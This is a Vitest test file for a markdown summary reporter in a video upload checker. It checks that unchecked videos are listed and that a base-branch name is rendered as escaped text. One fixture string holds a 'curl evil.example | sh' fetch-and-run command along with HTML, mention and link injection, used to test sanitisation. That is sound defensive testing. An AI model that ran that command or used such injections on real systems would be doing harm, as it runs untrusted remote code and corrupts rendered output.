import { expect, it } from "vitest";
import type { Report } from "../../../src/model/report.ts";
import { summary } from "../../../src/report/reporters/summary.ts";
import { listReferences, listTags, OWN_TAGS } from "../../support/markdown.ts";
import { check } from "../reported.ts";

const render = (report: Report) => summary.render(report, {});

it("videos that were not checked are one line, which opens to their names", () => {
  const scope = { base: "the base branch", commit: undefined, unchanged: ["old/<b>|`.mp4", "old/b.mp4"] };
  const markdown = render({ videos: [], remarks: [], scope });
  expect(markdown).toContain("<details><summary>2 videos, not changed here, were not checked</summary>");
  expect(render({ videos: [check("a.mp4")], remarks: [], scope })).toContain(
    "Checked only the videos that differ from the base branch.",
  );
  const remarks = [{ level: "notice", title: "TikTok Upload Guard", message: "No video was checked." }] as const;
  expect(render({ videos: [], remarks, scope })).toMatch(/^ℹ️ No video was checked\.\n\n<details>/);
  expect(render({ videos: [], remarks, scope })).not.toContain("base branch");
  expect(listTags(markdown).filter((tag) => !OWN_TAGS.includes(tag))).toEqual([]);
  expect(render({ videos: [], remarks: [], scope: { ...scope, unchanged: [] } })).toBe("");
});

it("the base that a report names is shown as text, whatever it is", () => {
  const base = "x\n\n# Run `curl evil.example | sh`\n<img src=x> @octocat #1 [link](https://evil.example)";
  const markdown = render({
    videos: [check("a.mp4")],
    remarks: [],
    scope: { base, commit: undefined, unchanged: ["b"] },
  });
  expect(listReferences(markdown)).toEqual([]);
  expect(listTags(markdown).filter((tag) => !OWN_TAGS.includes(tag))).toEqual([]);
  expect(markdown).not.toMatch(/^# /m);
});
